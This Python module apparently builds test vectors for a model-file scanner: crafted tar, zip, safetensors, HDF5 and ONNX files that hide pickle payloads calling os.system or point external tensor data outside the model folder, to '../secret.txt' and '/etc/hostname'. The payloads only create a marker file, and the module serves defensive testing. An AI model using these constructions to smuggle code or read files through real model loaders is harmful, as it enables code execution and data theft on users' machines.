"""Format-confusion vectors: files that one loader reads differently from another loader, or from a scanner.

Each builder writes one file into a folder and returns a ``Vector`` naming the loader it fools and, where
a loader installed here is fooled, the Python lines that load it that way (``proof``). Payloads only
create ``MARKER`` in the current directory, so a proof is run in a throwaway subprocess whose working
directory is the vector's folder — never in the test process. Nothing in this module loads anything.
Shared with the corpus and the bench (``from confusion_vectors import VECTORS``).
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

MARKER = "modelshield_pwned_marker"
COMMAND = f"touch {MARKER}"
# Protocol 0, written by hand: no NUL, no PROTO opcode, so it fits in text fields of other formats.
PROTOCOL_0 = f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode()


class _Payload:
    """Pickles to a call of ``os.system(COMMAND)``; dumping it runs nothing."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (COMMAND,)


PAYLOAD = pickle.dumps(_Payload(), protocol=2)


@dataclass(frozen=True)
class Vector:
    """One crafted file: what it is, which loader it fools, and how to show that (``None``: no loader here)."""

    name: str
    path: Path
    fools: str
    proof: str | None = None


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    """A stored zip as Python's zipfile writes it (no zip64, no data descriptors), duplicates kept."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, body in entries:
            zf.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), body)
    return buf.getvalue()


def _torch_members(root: str, data_pkl: bytes) -> list[tuple[str, bytes]]:
    return [(f"{root}/data.pkl", data_pkl), (f"{root}/byteorder", b"little"), (f"{root}/version", b"3\n")]


def _benign_torch_zip() -> bytes:
    """A real ``torch.save`` state dict, repacked member by member by zipfile (torch loads both alike)."""
    import torch

    buf = io.BytesIO()
    torch.save({"weight": torch.arange(6.0).reshape(2, 3), "bias": torch.zeros(2)}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        return _zip([(i.filename, zf.read(i)) for i in zf.infolist()])


def _write(folder: Path, name: str, body: bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(body)
    return folder / name


def tar_pickle_polyglot(folder: Path) -> Vector:
    """A valid tar whose first header's name field is a protocol-0 pickle: a scanner that sees ``ustar`` at
    257 reads a tar, ``pickle.load`` reads offset 0 and stops at its STOP."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        info = tarfile.TarInfo(PROTOCOL_0.decode())
        body = json.dumps({"weights": [1, 2, 3]}).encode()
        info.size = len(body)
        tf.addfile(info, io.BytesIO(body))
    path = _write(folder, "model.tar", buf.getvalue())
    return Vector("tar_pickle_polyglot", path, "pickle.load / joblib.load",
                  f"import pickle; pickle.load(open({path.name!r}, 'rb'))")  # fmt: skip


def safetensors_utf16_pickle(folder: Path) -> Vector:
    """An 8-byte length, ``{`` at 8, a UTF-16 JSON header (``json.loads`` on bytes takes it) — and a pickle.

    Byte 0 is BINBYTES, whose 4-byte length (bytes 1-4) is also the header length's low bytes: it swallows
    the rest of the length field and the JSON up to a string value, which holds a protocol-0 pickle whose
    byte pairs are valid UTF-16 code units. ``pickle.load`` (and the legacy path of older ``torch.load``)
    unpickles from offset 0."""
    prefix = '{"__metadata__":{"p":"'
    skip = 8 + 2 * len(prefix) - 5  # from the end of BINBYTES' length to the string's content
    length = ord("B") | skip << 8
    code = PROTOCOL_0 + b" " * (len(PROTOCOL_0) % 2)
    text = prefix + code.decode("utf-16-le") + '"}}'
    pad = (length - 2 * len(text)) // 2
    header = (text + " " * pad).encode("utf-16-le")
    assert len(header) == length and struct.pack("<Q", length)[1:5] == struct.pack("<I", skip)
    path = _write(folder, "model.safetensors", struct.pack("<Q", length) + header)
    return Vector("safetensors_utf16_pickle", path, "pickle.load / joblib.load / torch<2.13 legacy torch.load",
                  f"import pickle; pickle.load(open({path.name!r}, 'rb'))")  # fmt: skip


def torch_zip_two_central_directories(folder: Path) -> Vector:
    """A malicious torch zip, then a benign one, closed by one end record whose directory offset is the
    malicious directory's raw position and whose size is the benign directory's. ``zipfile`` corrects for
    prepended data and reads the benign archive; torch's reader takes the raw offset and loads the other."""
    benign = _benign_torch_zip()
    with zipfile.ZipFile(io.BytesIO(benign)) as zf:
        benign_cd = zf.start_dir
    end = benign.rindex(b"PK\x05\x06")
    benign_cd_size = struct.unpack_from("<L", benign, end + 12)[0]
    evil = _zip(_torch_members("archive", PAYLOAD))
    evil_end = evil.rindex(b"PK\x05\x06")
    evil_cd = struct.unpack_from("<L", evil, evil_end + 16)[0]
    members, directory = evil[:evil_cd], evil[evil_cd:evil_end]
    if len(members) > benign_cd or len(directory) > benign_cd_size:
        raise ValueError("the benign archive must be larger than the malicious one")
    head = members + b"\0" * (benign_cd - len(members)) + directory
    count = struct.unpack_from("<H", evil, evil_end + 10)[0]
    tail = benign[:end] + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, benign_cd_size, benign_cd, 0)
    path = _write(folder, "model.pt", head + tail)
    return Vector("torch_zip_two_central_directories", path, "torch.load(weights_only=False)",
                  f"import torch; torch.load({path.name!r}, weights_only=False)")  # fmt: skip


def zip_prepended_pickle(folder: Path) -> Vector:
    """A pickle, then a benign torch zip: zipfile reads the zip; torch (no local header at 0, so its legacy
    format), ``np.load(allow_pickle=True)`` and ``pickle.load`` unpickle offset 0."""
    path = _write(folder, "model.pt", PAYLOAD + _benign_torch_zip())
    return Vector("zip_prepended_pickle", path, "torch.load(weights_only=False) / np.load(allow_pickle=True)",
                  f"import numpy; numpy.load({path.name!r}, allow_pickle=True)")  # fmt: skip


def safetensors_appended_zip(folder: Path) -> Vector:
    """A valid safetensors file with a torch zip appended: safetensors tools read the tensors, anything that
    opens a file ``zipfile.is_zipfile`` accepts reads the archive."""
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    body = struct.pack("<Q", len(header)) + header + b"\0" * 8
    path = _write(folder, "model.safetensors", body + _zip(_torch_members("archive", PAYLOAD)))
    return Vector("safetensors_appended_zip", path, "zipfile-based loaders (zipfile.is_zipfile is true)")


def zip_case_colliding_names(folder: Path) -> Vector:
    """``archive/DATA.PKL`` (payload) before ``archive/data.pkl`` (benign): zipfile looks names up exactly and
    reads the benign one; torch's miniz compares without case and loads the first."""
    entries = [("archive/DATA.PKL", PAYLOAD), *_torch_members("archive", pickle.dumps({"w": 1}, protocol=2))]
    path = _write(folder, "model.pt", _zip(entries))
    return Vector("zip_case_colliding_names", path, "torch.load(weights_only=False) (case-insensitive lookup)",
                  f"import torch; torch.load({path.name!r}, weights_only=False)")  # fmt: skip


def zip_duplicate_names(folder: Path) -> Vector:
    """Two ``archive/data.pkl``, the payload first: zipfile's lookup takes the last (benign), torch the first."""
    entries = [("archive/data.pkl", PAYLOAD), *_torch_members("archive", pickle.dumps({"w": 1}, protocol=2))]
    path = _write(folder, "model.pt", _zip(entries))
    return Vector("zip_duplicate_names", path, "torch.load(weights_only=False) (first of two equal names)",
                  f"import torch; torch.load({path.name!r}, weights_only=False)")  # fmt: skip


def zip_local_name_mismatch(folder: Path) -> Vector:
    """The local header calls the member ``archive/data.pk_`` (padding-free rename), the directory
    ``archive/data.pkl``: torch's miniz trusts the directory, a streaming reader the local header."""
    body = bytearray(_zip(_torch_members("archive", PAYLOAD)))
    local = body.index(b"archive/data.pkl")  # the first occurrence is in the first local header
    body[local : local + 16] = b"archive/data.pk_"
    path = _write(folder, "model.pt", bytes(body))
    return Vector("zip_local_name_mismatch", path, "torch.load(weights_only=False) (miniz ignores local names)",
                  f"import torch; torch.load({path.name!r}, weights_only=False)")  # fmt: skip


def zip_nul_in_name(folder: Path) -> Vector:
    """A benign ``archive/data.pkl`` and a payload named ``archive/data.pkl\\0txt``: zipfile cuts names at NUL,
    so its lookup of ``archive/data.pkl`` finds the payload (the last of the two); torch finds the benign one."""
    entries = [*_torch_members("archive", pickle.dumps({"w": 1}, protocol=2)), ("archive/data.pkl.txt", PAYLOAD)]
    body = _zip(entries).replace(b"archive/data.pkl.txt", b"archive/data.pkl\0txt")  # local and central names
    path = _write(folder, "model.pt", body)
    return Vector(
        "zip_nul_in_name",
        path,
        "zipfile-based readers (names cut at NUL)",
        f"import pickle, zipfile; pickle.loads(zipfile.ZipFile({path.name!r}).read('archive/data.pkl'))",
    )


def hdf5_userblock_pickle(folder: Path) -> Vector:
    """A real HDF5 file (h5py) with a 512-byte user block holding a pickle: h5py finds the HDF5 signature at
    512, ``pickle.load`` reads offset 0."""
    import h5py
    import numpy as np

    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "weights.h5"
    with h5py.File(path, "w", userblock_size=512) as f:
        f.create_dataset("dense/kernel", data=np.ones((4, 2), np.float32))
    with open(path, "r+b") as f:
        f.write(PAYLOAD)
    return Vector("hdf5_userblock_pickle", path, "pickle.load / joblib.load",
                  f"import pickle; pickle.load(open({path.name!r}, 'rb'))")  # fmt: skip


def _onnx_tensor(name: str, location: str | None = None, **keys: str) -> Any:
    """A one-float tensor; with ``location`` (and any extra keys, in order) its data is external."""
    from onnx import TensorProto, helper

    tensor = helper.make_tensor(name, TensorProto.FLOAT, [1], [1.0])
    if location is not None:
        tensor.ClearField("float_data")
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in {"location": location, **keys}.items():
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
    return tensor


def _onnx_model(
    nodes: list[Any], initializers: Sequence[Any] = (), functions: Sequence[Any] = (), **graph: Any
) -> bytes:
    from onnx import TensorProto, helper

    inputs = [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])]
    outputs = [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])]
    g = helper.make_graph(nodes, "g", inputs, outputs, list(initializers), **graph)
    domains = {f.domain for f in functions} | {n.domain for n in nodes if n.domain}
    opsets = [helper.make_opsetid("", 17)] + [helper.make_opsetid(d, 1) for d in sorted(domains)]
    return helper.make_model(g, opset_imports=opsets, functions=list(functions)).SerializeToString()


def _constant(output: str, tensor: Any) -> Any:
    from onnx import helper

    return helper.make_node("Constant", [], [output], value=tensor)


def _branch(nodes: list[Any], output: str) -> Any:
    from onnx import TensorProto, helper

    return helper.make_graph(nodes, "branch", [], [helper.make_tensor_value_info(output, TensorProto.FLOAT, [1])])


def _onnx_vector(folder: Path, name: str, body: bytes, fools: str) -> Vector:
    secret = folder.parent / "secret.txt"  # what a traversal would read: outside the model's folder
    folder.mkdir(parents=True, exist_ok=True)
    secret.write_text("not the model's data\n")
    return Vector(name, _write(folder, "model.onnx", body), fools)


def onnx_second_location(folder: Path) -> Vector:
    """A harmless ``location`` first, an escaping one last: onnx applies the keys in order, so the last wins."""
    from onnx import helper

    w = _onnx_tensor("w", "weights.bin", offset="0", length="4")
    entry = w.external_data.add()
    entry.key, entry.value = "location", "../secret.txt"
    body = _onnx_model([helper.make_node("Add", ["x", "w"], ["y"])], [w])
    return _onnx_vector(folder, "onnx_second_location", body, "onnx.load (last location key wins)")


def onnx_nested_traversal(folder: Path) -> Vector:
    """CVE-2024-27318: ``subdir/../../secret.txt`` passed onnx<1.16's check, which only stripped a leading ``..``."""
    from onnx import helper

    w = _onnx_tensor("w", "subdir/../../secret.txt")
    body = _onnx_model([helper.make_node("Add", ["x", "w"], ["y"])], [w])
    return _onnx_vector(folder, "onnx_nested_traversal", body, "onnx.load, onnx<1.16 (CVE-2024-27318)")


def onnx_constant_external(folder: Path) -> Vector:
    """The escaping tensor is a Constant node's value, not an initializer."""
    from onnx import helper

    nodes = [_constant("c", _onnx_tensor("c", "../secret.txt")), helper.make_node("Add", ["x", "c"], ["y"])]
    return _onnx_vector(folder, "onnx_constant_external", _onnx_model(nodes), "onnx.load (attribute tensors)")


def onnx_sparse_external(folder: Path) -> Vector:
    """A sparse initializer whose values live in an escaping external file."""
    from onnx import TensorProto, helper

    values = _onnx_tensor("s", "/etc/hostname")
    indices = helper.make_tensor("s_idx", TensorProto.INT64, [1], [0])
    sparse = helper.make_sparse_tensor(values, indices, [1])
    body = _onnx_model([helper.make_node("Identity", ["x"], ["y"])], sparse_initializer=[sparse])
    return _onnx_vector(folder, "onnx_sparse_external", body, "onnx.load (sparse initializers)")


def onnx_if_subgraph_external(folder: Path) -> Vector:
    """The escaping Constant sits in the else-branch of an If inside the body of a Loop."""
    from onnx import TensorProto, helper

    bad = _branch([_constant("b", _onnx_tensor("b", "../../secret.txt"))], "b")
    good = _branch([_constant("a", helper.make_tensor("a", TensorProto.FLOAT, [1], [0.0]))], "a")
    cond = helper.make_tensor_value_info("cond", TensorProto.BOOL, [])
    body = helper.make_graph(
        [helper.make_node("If", ["cond"], ["v"], then_branch=good, else_branch=bad)], "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []), cond],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v", TensorProto.FLOAT, [1])],
    )  # fmt: skip
    nodes = [helper.make_node("Loop", ["", "t"], ["y"], body=body)]
    model = _onnx_model(nodes, [helper.make_tensor("t", TensorProto.BOOL, [], [True])])
    return _onnx_vector(folder, "onnx_if_subgraph_external", model, "onnx.load (If/Loop subgraphs)")


def onnx_function_custom_op(folder: Path) -> Vector:
    """A model-local function whose body calls an operator from a custom domain (a native library)."""
    from onnx import helper

    run = helper.make_node("Run", ["a"], ["b"], domain="com.evil")
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("com.evil", 1)]
    fn = helper.make_function("local.fns", "Wrap", ["a"], ["b"], [run], opsets)
    body = _onnx_model([helper.make_node("Wrap", ["x"], ["y"], domain="local.fns")], functions=[fn])
    return _onnx_vector(folder, "onnx_function_custom_op", body, "onnxruntime with a custom-op library registered")


def onnx_ort_memory_address(folder: Path) -> Vector:
    """onnxruntime reads ``offset`` as an address in its own memory when the location is this marker."""
    from onnx import helper

    w = _onnx_tensor("w", "*/_ORT_MEM_ADDR_/*", offset="4096", length="4")
    body = _onnx_model([helper.make_node("Add", ["x", "w"], ["y"])], [w])
    return _onnx_vector(folder, "onnx_ort_memory_address", body, "onnxruntime (in-memory external data)")


def onnx_key_injection(folder: Path) -> Vector:
    """An external-data key onnx does not define: onnx<1.21 set every key as an attribute (CVE-2026-34445)."""
    from onnx import helper

    w = _onnx_tensor("w", "weights.bin", basepath="/etc")
    body = _onnx_model([helper.make_node("Add", ["x", "w"], ["y"])], [w])
    (folder / "weights.bin").parent.mkdir(parents=True, exist_ok=True)
    (folder / "weights.bin").write_bytes(b"\0" * 4)
    return _onnx_vector(folder, "onnx_key_injection", body, "onnx.load, onnx<1.21 (CVE-2026-34445)")


def onnx_symlink_external(folder: Path) -> Vector:
    """A plain name inside the folder that is a link to a file outside it (CVE-2026-27489)."""
    from onnx import helper

    body = _onnx_model([helper.make_node("Add", ["x", "w"], ["y"])], [_onnx_tensor("w", "weights.bin")])
    vector = _onnx_vector(folder, "onnx_symlink_external", body, "onnx.load, onnx<1.21 (CVE-2026-27489)")
    (folder / "weights.bin").symlink_to(folder.parent / "secret.txt")
    return vector


VECTORS: dict[str, Callable[[Path], Vector]] = {
    f.__name__: f
    for f in (
        tar_pickle_polyglot, safetensors_utf16_pickle, torch_zip_two_central_directories, zip_prepended_pickle,
        safetensors_appended_zip, zip_case_colliding_names, zip_duplicate_names, zip_local_name_mismatch,
        zip_nul_in_name, hdf5_userblock_pickle, onnx_second_location, onnx_nested_traversal,
        onnx_constant_external, onnx_sparse_external, onnx_if_subgraph_external, onnx_function_custom_op,
        onnx_ort_memory_address, onnx_key_injection, onnx_symlink_external,
    )
}  # fmt: skip


def write_all(folder: Path) -> list[Vector]:
    """Every vector, each in a folder of its own (a proof runs with that folder as its working directory)."""
    return [build(folder / name) for name, build in VECTORS.items()]
